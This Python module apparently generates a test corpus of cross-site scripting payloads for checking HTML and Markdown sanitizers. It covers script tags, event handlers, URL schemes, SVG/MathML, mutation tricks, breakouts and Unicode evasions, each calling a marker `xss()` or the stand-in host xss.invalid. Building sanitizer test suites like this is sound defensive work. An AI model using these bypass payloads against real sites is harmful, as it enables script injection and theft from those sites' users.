"""What somebody might write to have a reader's browser run it: made from parts, by family, each calling `xss()`.

Ours throughout: families and parts follow what browsers and parsers are known to do (OWASP's contexts, mutation by re-parsing,
Markdown's own doors), the combinations are made here. `PAYLOADS` is the same list at every run; `SMALL` has some of each family.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALL = "xss()"
AWAY = "//xss.invalid/x"  # whatever asks for this was fired too
EVENTS = (
    "onload",
    "onerror",
    "onmouseover",
    "onfocus",
    "onclick",
    "ontoggle",
    "onpointerenter",
    "onanimationstart",
    "onbegin",
)
ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "video src=x",
    "input autofocus",
    "math",
    "marquee",
    "a tabindex=1 autofocus",
)
SCHEMES = (
    "javascript:xss()", "JaVaScRiPt:xss()", "java\tscript:xss()", "java\nscript:xss()", "\x01javascript:xss()", " javascript:xss()",
    "javascript&colon;xss()", "&#106;avascript:xss()", "&#x6A;avascript:xss()", "javascript&#58xss()", "java&Tab;script:xss()",
    "vbscript:xss()", "data:text/html,<script>xss()</script>", "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=xss()>", "view-source:javascript:xss()", "javascript://%0axss()", "feed:javascript:xss()",
    "\u00a0javascript:xss()", "j\u0430vascript:xss()", "blob:x", "jar:javascript:xss()!/", "livescript:xss()",
)  # fmt: skip


def _scripts() -> Iterator[str]:
    yield "<script>xss()</script>"
    yield "<ScRiPt>xss()</sCrIpT>"
    yield "<script/src=//xss.invalid/x></script>"
    yield "<script\x0c>xss()</script\x0c>"
    yield "<scr<script>ipt>xss()</scr</script>ipt>"
    yield "<<script>xss()//<</script>"
    yield "<script>xss()<!--"
    yield "<script type=module>xss()</script>"
    yield "<script type=text/vbscript>xss()</script>"
    yield "</script><script>xss()</script>"
    yield "</title><script>xss()</script>"
    yield "</textarea><script>xss()</script>"
    yield "</style><script>xss()</script>"
    yield "--><script>xss()</script>"
    yield "]]><script>xss()</script>"
    yield "<!--><script>xss()</script>-->"
    yield "<!--[if IE]><script>xss()</script><![endif]-->"
    yield "<![CDATA[<script>xss()</script>]]>"
    yield "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>xss()</script>"
    yield "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>xss()</x:script>"
    yield "\uff1cscript\uff1exss()\uff1c/script\uff1e"
    yield "<script\u3000>xss()</script>"
    yield "&lt;script&gt;xss()&lt;/script&gt;"
    yield "%3Cscript%3Exss()%3C/script%3E"
    yield "\\u003cscript\\u003exss()\\u003c/script\\u003e"


def _handlers() -> Iterator[str]:
    for element, event in product(ELEMENTS, EVENTS):
        yield f"<{element} {event}={CALL}>"


def _spelled() -> Iterator[str]:
    """One handler in every spelling that a browser forgives."""
    for between in ("/", "\t", "\n", "\x0c", "\r", "\x0b", "//", "/\x00/"):
        yield f"<img{between}src=x{between}onerror={CALL}>"
    for quoted in (
        '"xss()"',
        "'xss()'",
        "`xss()`",
        "xss&#40;&#41;",
        "&#120;ss()",
        "&#x78;&#x73;&#x73;&lpar;&rpar;",
        "xss\\u0028)",
    ):
        yield f"<img src=x onerror={quoted}>"
    yield "<IMG SRC=x OnErRoR=xss()>"
    yield "<img src=x onerror=xss()"
    yield "<img src=x onerror=xss() x"
    yield "<img src=x onerror\n=\nxss()>"
    yield "<image src=x onerror=xss()>"
    yield "<img src=x:x onerror\x00=xss()>"
    yield "<img src=x onerror=xss()//"
    yield "<\x00img src=x onerror=xss()>"


def _addresses() -> Iterator[str]:
    for scheme in SCHEMES:
        yield f'<a href="{scheme}">go</a>'
        yield f'<iframe src="{scheme}"></iframe>'
    for element in (
        "form action",
        "object data",
        "embed src",
        "base href",
        "link rel=import href",
        "video poster",
        "area href",
    ):
        yield f'<{element}="javascript:xss()">x'
    yield "<form><button formaction=javascript:xss()>go</button></form>"
    yield "<form id=f></form><button form=f formaction=javascript:xss()>go</button>"
    yield "<meta http-equiv=refresh content='0;url=javascript:xss()'>"
    yield "<meta http-equiv=refresh content='0;url=//xss.invalid/x'>"
    yield "<isindex action=javascript:xss() type=image>"
    yield "<iframe srcdoc='<script>parent.xss()</script>'></iframe>"
    yield "<iframe srcdoc='&lt;script&gt;parent.xss()&lt;/script&gt;'></iframe>"
    yield "<a href=javascript:xss() target=_blank ping=//xss.invalid/x>go</a>"
    yield "<img srcset='//xss.invalid/x 1x'>"
    yield "<img src=//xss.invalid/x>"
    yield "<img lowsrc=//xss.invalid/x dynsrc=//xss.invalid/x>"
    yield "<video><source src=//xss.invalid/x onerror=xss()></video>"
    yield "<audio src=//xss.invalid/x onerror=xss()>"
    yield "<track src=//xss.invalid/x><portal src=//xss.invalid/x>"


def _styles() -> Iterator[str]:
    yield "<style>@import '//xss.invalid/x';</style>"
    yield "<style>*{background:url(//xss.invalid/x)}</style>"
    yield "<link rel=stylesheet href=//xss.invalid/x>"
    yield "<div style='background:url(//xss.invalid/x)'>x</div>"
    yield "<div style='width:expression(xss())'>x</div>"
    yield "<div style='behavior:url(//xss.invalid/x)'>x</div>"
    yield "<table background=//xss.invalid/x><td background=//xss.invalid/x>x</table>"
    yield "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=xss()>x"
    yield "<svg><style>{font-family:'<iframe/onload=xss()>'</style></svg>"


def _foreign() -> Iterator[str]:
    """SVG and MathML, where the same letters are parsed by other rules."""
    yield "<svg><script>xss()</script></svg>"
    yield "<svg><script href=data:,xss() /></svg>"
    yield "<svg><script xlink:href=//xss.invalid/x></script></svg>"
    yield "<svg><script>xss&#40;)</script></svg>"
    yield "<svg><a xlink:href=javascript:xss()><text>x</text></a></svg>"
    yield "<svg><animate xlink:href=#a attributeName=href values=javascript:xss() /><a id=a><text>x</text></a></svg>"
    yield "<svg><set attributeName=onmouseover to=xss()></svg>"
    yield "<svg><use href='data:image/svg+xml,<svg id=x onload=xss()/>#x'></svg>"
    yield "<svg><image href=//xss.invalid/x onload=xss()></svg>"
    yield "<svg><foreignObject><iframe onload=xss()></foreignObject></svg>"
    yield "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>xss()</handler></svg>"
    yield "<math href=javascript:xss()>x</math>"
    yield "<math><mtext><a xlink:href=javascript:xss()>x</a></mtext></math>"
    yield "<math><maction actiontype=statusline xlink:href=javascript:xss()>x</maction></math>"
    yield "<math><annotation-xml encoding='text/html'><img src=x onerror=xss()></annotation-xml></math>"
    yield "<math><semantics><annotation-xml encoding='application/xhtml+xml'><script>xss()</script></annotation-xml></semantics></math>"


def _mutating() -> Iterator[str]:
    """Harmless when it is read once; something else when what was made of it is read again."""
    inner = "<img src=x onerror=xss()>"
    quoted = "&lt;img src=x onerror=xss()&gt;"
    for outer, raw in product(
        ("svg", "math"), ("style", "title", "xmp", "noscript", "noembed", "textarea", "script", "template")
    ):
        yield f"<{outer}></p><{raw}><a id='</{raw}>{inner}'>"
    for raw in ("noscript", "style", "xmp", "noframes", "iframe", "noembed", "plaintext", "listing"):
        yield f"<{raw}><p title='</{raw}>{inner}'>"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{quoted}'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{inner}"
    yield f"<svg><desc><table><tr><td><style></desc>{inner}</style>"
    yield f"<select><template><style></select>{inner}</style></template>"
    yield f"<table><colgroup><style></table>{inner}</style>"
    yield f"<p><svg><p><style>{inner}</style>"
    yield f"<a href='`<!--`>{inner}-->'>x</a>"
    yield f"<img alt='`><{inner[1:]}'>"
    yield f"<div title='&quot;&gt;{quoted}'>x</div>"
    yield f"<b title='{inner}'>{quoted}</b>"
    yield "<svg><!--<style>--><img src=x onerror=xss()><!--</style>--></svg>"
    yield f"{'<div>' * 90}{inner}{'</div>' * 90}"


def _breaking_out() -> Iterator[str]:
    """Out of an attribute, a title, a row of a table of ours, a script, a comment, a line of a header."""
    for quote, end in product(('"', "'", "`", "&quot;", "&#34;", "&#x27;"), (">", " ", "/>")):
        yield f"x{quote}{end}<img src=x onerror=xss()>"
    for quote in ('"', "'", " "):
        yield f"x{quote} onmouseover=xss() autofocus onfocus=xss() x={quote}"
    yield "';xss();//"
    yield '";xss();//'
    yield "\\';xss();//"
    yield "${xss()}"
    yield "{{constructor.constructor('xss()')()}}"
    yield "{% load x %}{{ request }}<img src=x onerror=xss()>"
    yield "%(name)s%s{0}<img src=x onerror=xss()>"
    yield "{name}<img src=x onerror=xss()>"
    yield "x\r\nContent-Type: text/html\r\n\r\n<script>xss()</script>"
    yield "x\u2028xss()\u2029"
    yield "</script><svg onload=xss()>"
    yield "<!-- --!><img src=x onerror=xss()>"
    yield "hx-on:click=xss()"
    yield "<p hx-get=//xss.invalid/x hx-trigger=load hx-on::load=xss()>x</p>"
    yield "<p data-hx-get=//xss.invalid/x data-hx-trigger=load>x</p>"
    yield "<div data-chart='{}' data-copy='x' data-dialog-open='ui-dialog' id=ui-dialog>x</div>"


def _markdown() -> Iterator[str]:
    for scheme in SCHEMES[:16]:
        yield f"[go]({scheme})"
        yield f"![go]({scheme})"
    for address in ("javascript:xss()", "data:text/html,<script>xss()</script>", "vbscript:xss()"):
        yield f"<{address}>"
        yield f"[go][r]\n\n[r]: {address}"
        yield f"[go](<{address}>)"
    yield '[go](/ "\\" onmouseover=xss() ")'
    yield "[go](/ '\" onmouseover=xss() \"')"
    yield '![" onerror=xss() "](/x)'
    yield '![x](/x"onerror=xss())'
    yield "![x](//xss.invalid/x)"
    yield "[![x](/x)](javascript:xss())"
    yield "`<img src=x onerror=xss()>`"
    yield '```html" onmouseover=xss() "\n<img src=x onerror=xss()>\n```'
    yield '```"><img src=x onerror=xss()>\nx\n```'
    yield "    <img src=x onerror=xss()>"
    yield "> <img src=x onerror=xss()>"
    yield "| a |\n|---|\n| <img src=x onerror=xss()> |"
    yield "- [ ] <img src=x onerror=xss()>"
    yield "[^1]\n\n[^1]: <img src=x onerror=xss()>"
    yield '[^"><img src=x onerror=xss()>]\n\n[^"><img src=x onerror=xss()>]: x'
    yield "# <img src=x onerror=xss()>"
    yield '## "><img src=x onerror=xss()>'
    yield "$\\href{javascript:xss()}{x}$"
    yield "$$\\url{javascript:xss()}$$"
    yield '$\\htmlData{x="onload=xss()"}{x}$'
    yield "$\\includegraphics{//xss.invalid/x}$"
    yield "$</span><img src=x onerror=xss()>$"
    yield "||<img src=x onerror=xss()>||"
    yield "@<img/src=x/onerror=xss()> hello"
    yield 'http://x.invalid/"onmouseover=xss()'
    yield "http://x.invalid/<img/src=x/onerror=xss()>"
    yield "www.x.invalid/'onclick='xss()"
    yield '<http://x.invalid/"onmouseover="xss()>'
    yield "<div>\n\n*x*\n\n<img src=x onerror=xss()>\n\n</div>"
    yield '<a href="/">\n\n<img src=x onerror=xss()></a>'
    yield "\\<img src=x onerror=xss()\\>"
    yield "&#60;img src=x onerror=xss()&#62;"
    yield "*<img src=x onerror=xss()>*_<svg onload=xss()>_"
    yield "[x]: javascript:xss()\n[x]"
    yield "::: spoiler <img src=x onerror=xss()>\nx\n:::"


def _unicode() -> Iterator[str]:
    for hidden in ("\u200b", "\u202e", "\ufeff", "\u00ad", "\u2066", "\ufffe", "\u0600"):
        yield f"<im{hidden}g src=x on{hidden}error=xss()>"
        yield f"<img src=x onerror=xss(){hidden}>"
    yield "\u202e<img src=x onerror=xss()>\u202c"
    yield "\uff1cimg src=x onerror=xss()\uff1e"
    yield "\u2039img src=x onerror=xss()\u203a"
    yield "<\u0131mg src=x onerror=xss()>"
    yield "<\u017fcript>xss()</\u017fcript>"
    yield "<scr\u0131pt>xss()</scr\u0131pt>"
    yield "\u226eimg src=x onerror=xss()\u226f"
    yield "怎样<img src=x onerror=xss()>挂载？"
    yield "\U0001f389<svg/onload=xss()>\U0001f389"


FAMILIES = {
    "scripts": _scripts, "handlers": _handlers, "spelled": _spelled, "addresses": _addresses, "styles": _styles, "foreign": _foreign,
    "mutating": _mutating, "breaking out": _breaking_out, "markdown": _markdown, "unicode": _unicode,
}  # fmt: skip
PAYLOADS = tuple(dict.fromkeys(one for family in FAMILIES.values() for one in family()))
SMALL = tuple(one for family in FAMILIES.values() for one in tuple(family())[::17][:4])
